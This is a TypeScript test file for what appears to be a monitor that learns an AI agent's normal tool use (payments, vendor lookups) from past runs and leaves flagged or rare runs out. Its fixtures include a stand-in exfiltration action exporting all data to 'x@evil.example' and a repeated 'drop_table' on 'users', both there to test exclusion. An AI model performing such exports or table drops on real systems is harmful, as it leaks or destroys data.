import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { LIMITS } from '../../src/baseline/bounds.ts';
import { account, goalOf, learned, payment, payments, run } from './histories.ts';

describe('what enters', () => {
  test('tools, arguments, order and goals, counted in runs', () => {
    const content = learned(payments(20));
    expect(content.history).toMatchObject({ runs: 20, actions: 60, leftOut: 0 });
    expect(Object.keys(content.tools)).toEqual(['lookup_vendor', 'read_mail', 'send_payment']);
    const { arguments: args, perRun, effect } = content.tools.send_payment!;
    expect(effect).toBe('outbound');
    expect(perRun).toMatchObject({ low: 1, high: 1 });
    expect(args.iban).toMatchObject({ runs: 20, kinds: { account: 20 }, freshValues: 1 });
    expect(args.iban?.origins).toEqual({ 'field:lookup_vendor': 20 });
    expect(args.iban?.records).toEqual({ lookup_vendor: 20 });
    expect(args.currency?.values).toEqual({ EUR: 20 });
    expect(args.amount?.numbers).toMatchObject({ low: 102, high: 117 });
    expect(content.order['["^"]']).toEqual({ read_mail: 20 });
    expect(content.order['["read_mail"]']).toEqual({ lookup_vendor: 20 });
    expect(Object.values(content.goals)).toEqual([
      { runs: 20, tools: { lookup_vendor: 20, read_mail: 20, send_payment: 20 } },
    ]);
  });

  test('a loop in one run is one run', () => {
    const looping = run(
      'loop',
      goalOf(0),
      Array.from({ length: 50 }, () => ['drop_table', { name: 'users' }, 'ok'] as const),
    );
    const content = learned([...payments(20), looping]);
    expect(content.tools.drop_table).toBeUndefined();
    expect(content.unlearned['tool drop_table']).toBe(1);
  });

  test("other agents' runs do not", () => {
    const others = payments(5).map((seen) =>
      seen.map((one) => ({ ...one, action: { ...one.action, agent: 'other' } })),
    );
    expect(learned(others).history.runs).toBe(0);
  });

  test('the artefact is the same whatever the order of runs', () => {
    const runs = [...payments(8), run('x', 'Look up V-1', [['lookup_vendor', { vendor: 'V-1' }, '{"a":1}']])];
    const wanted = JSON.stringify(learned(runs));
    fc.assert(
      fc.property(fc.shuffledSubarray(runs, { minLength: runs.length }), (shuffled) => {
        expect(JSON.stringify(learned(shuffled))).toBe(wanted);
      }),
      { numRuns: 20 },
    );
  });
});

describe('what does not enter', () => {
  test.each(['alert', 'ask', 'block'] as const)('a run with a finding that asks for: %s', (outcome) => {
    const bad = run(
      'bad',
      goalOf(99),
      [...payment(99), ['export_all', { to: 'x@evil.example' }, 'sent']],
      outcome,
    );
    const content = learned([...payments(10), bad], { support: { runs: 1, share: 0 } });
    expect(content.history).toMatchObject({ runs: 10, leftOut: 1 });
    expect(content.tools.export_all).toBeUndefined();
    expect(content.unlearned).toEqual({});
  });

  test('what such a run does later', () => {
    const [first, ...rest] = run('bad', goalOf(1), payment(1));
    const content = learned([[{ ...first!, outcome: 'block' }], rest, ...payments(3)]);
    expect(content.history).toMatchObject({ runs: 3, leftOut: 1 });
  });

  test('but a person can vouch for it', () => {
    const bad = run('seen', goalOf(1), payment(1), 'alert');
    expect(learned([bad, ...payments(3)], { vouched: new Set(['seen']) }).history.runs).toBe(4);
    expect(learned([bad, ...payments(3)], { vouched: new Set(['all']) }).history.runs).toBe(4);
  });

  test('what too few runs, or too small a share of them, did; it is listed', () => {
    const rare = Array.from({ length: 4 }, (_, i) =>
      run(`e${i}`, 'Export the list', [['export_list', { n: i }, 'ok']]),
    );
    const content = learned([...payments(96), ...rare]);
    expect(content.tools.export_list).toBeUndefined();
    expect(content.unlearned['tool export_list']).toBe(4);
  });

  test('more than the artefact may hold', () => {
    const many = Array.from({ length: LIMITS.tools + 50 }, (_, i) =>
      run(`t${i}`, 'go', [[`get_${i}`, {}, 'x']]),
    );
    const content = learned(many, { support: { runs: 1, share: 0 } });
    expect(Object.keys(content.tools)).toHaveLength(LIMITS.tools);
    const wide = Object.fromEntries(Array.from({ length: 900 }, (_, i) => [`k${i}`, `value ${i}`]));
    const [tool] = Object.values(
      learned([run('w', 'go', [['put', wide, 'x']])], { support: { runs: 1, share: 0 } }).tools,
    );
    expect(Object.keys(tool?.arguments ?? {}).length).toBeLessThanOrEqual(LIMITS.argumentsOfTool);
  });
});

test('values are hashes where they shall be hidden, and still known', () => {
  const salt = 'a'.repeat(32);
  const content = learned(payments(20), { salt });
  const text = JSON.stringify(content.tools);
  expect(text).not.toContain('EUR');
  expect(text).not.toContain(account(1));
  expect(Object.values(content.tools.send_payment?.arguments.currency?.values ?? {})).toEqual([20]);
});
